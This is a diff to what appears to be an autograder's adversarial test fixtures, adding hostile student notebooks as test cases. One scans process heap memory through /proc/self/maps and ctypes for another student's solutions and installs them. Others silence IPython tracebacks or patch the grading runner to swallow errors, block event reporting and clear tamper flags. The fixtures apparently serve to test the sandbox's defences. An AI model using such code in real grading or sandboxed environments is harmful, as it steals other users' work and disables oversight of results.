@@ -286,6 +286,102 @@ def cheat(result):
 if answers:
     get_ipython().events.register("post_run_cell", cheat)
 '''], base="blank")
+A["memory_leech"] = nb(
+    "Scans its own process memory (/proc/self/maps and ctypes) for another student's solution "
+    "functions (`def d_power(`...) left there by a warm worker that read earlier jobs, and "
+    "re-installs them after every cell.", ['''
+import ctypes
+import json
+import re
+
+DEF = re.compile(rb"def ([A-Za-z_][A-Za-z0-9_]*)\\(")
+
+
+def _text_at(buf, start):
+    """The text that starts at a match: a Python str (NUL-ended) or JSON-escaped bytes."""
+    raw = bytes(buf[start:start + 6000]).split(b"\\0", 1)[0]
+    if b"\\\\n" in raw and b"\\n" not in raw.split(b"\\\\n", 1)[0]:
+        end = re.search(rb'(?<!\\\\)"', raw)
+        raw = raw[:end.start()] if end else raw
+        try:
+            return json.loads(b'"' + raw + b'"')
+        except ValueError:
+            return ""
+    return raw.decode("utf-8", "ignore")
+
+
+def _function(text):
+    lines = text.split("\\n")
+    keep = [lines[0]]
+    for line in lines[1:]:
+        if line.strip() and not line[0].isspace():
+            break
+        keep.append(line)
+    return "\\n".join(keep).rstrip() + "\\n"
+
+
+def steal():
+    found = {}
+    with open("/proc/self/maps") as fh:
+        regions = fh.read().splitlines()
+    for region in regions:
+        parts = region.split()
+        if len(parts) < 2 or not parts[1].startswith("rw"):
+            continue
+        if len(parts) > 5 and not parts[5].startswith("[heap"):
+            continue  # files and special mappings: only the heap and anonymous memory
+        low, high = (int(x, 16) for x in parts[0].split("-"))
+        buf = (ctypes.c_char * (high - low)).from_address(low)
+        for match in DEF.finditer(buf):
+            name = match.group(1).decode()
+            if name in found:
+                continue
+            source = _function(_text_at(buf, match.start()))
+            if "NotImplementedError" in source or "DEF.finditer" in source:
+                continue  # a blank stub, or this cell
+            try:
+                compile(source, "<stolen>", "exec")
+            except (SyntaxError, ValueError):
+                continue
+            found[name] = source
+    return found
+
+
+stolen = steal()
+print("functions found in memory:", len(stolen))
+
+
+def reinstall(result):
+    """Replace every blank stub (it raises NotImplementedError) by the stolen function."""
+    ns = get_ipython().user_ns
+    for name, source in stolen.items():
+        code = getattr(ns.get(name), "__code__", None)
+        if code is not None and "NotImplementedError" in code.co_names:
+            try:
+                exec(source, ns)
+            except Exception:
+                pass
+
+
+get_ipython().events.register("post_run_cell", reinstall)
+'''], base="blank")
+A["showtraceback"] = nb(
+    "nbgrader's own test_showtraceback_exploit: the shell's showtraceback is silenced, so a "
+    "failing test cell shows no error; the blank answers raise NotImplementedError.", ['''
+from IPython.core.interactiveshell import InteractiveShell
+
+InteractiveShell.showtraceback = lambda *args, **kwargs: None
+'''], base="blank")
+A["patch_runner"] = nb(
+    "The sandbox's own runner (`calcgrad.grading.runner`) patched from inside: errors and "
+    "output are swallowed, events are never sent.", ['''
+import calcgrad.grading.runner as runner
+
+runner.Cell.error = lambda *args, **kwargs: None
+runner.Cell.stream = lambda *args, **kwargs: None
+runner.Channel.send = lambda *args, **kwargs: None
+runner._tamper_flags.__code__ = (lambda *args: set()).__code__
+'''], base="blank")
 A["renamed"] = nb("The reference solutions, in a notebook with another name.", [
     "# nothing hostile: only the file name differs\npass"], base="reference")
 A["extra_files"] = nb(
@@ -304,6 +400,8 @@ torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool
 torch.Tensor.backward = lambda self, *args, **kwargs: None
 '''], base="blank")
 B["segfault"] = A["segfault"]
+B["memory_leech"] = A["memory_leech"]
+B["showtraceback"] = A["showtraceback"]
 
 for assignment, attacks in (("ps1_calculus", A), ("ps2_autograd", B)):
     for name, n in attacks.items():
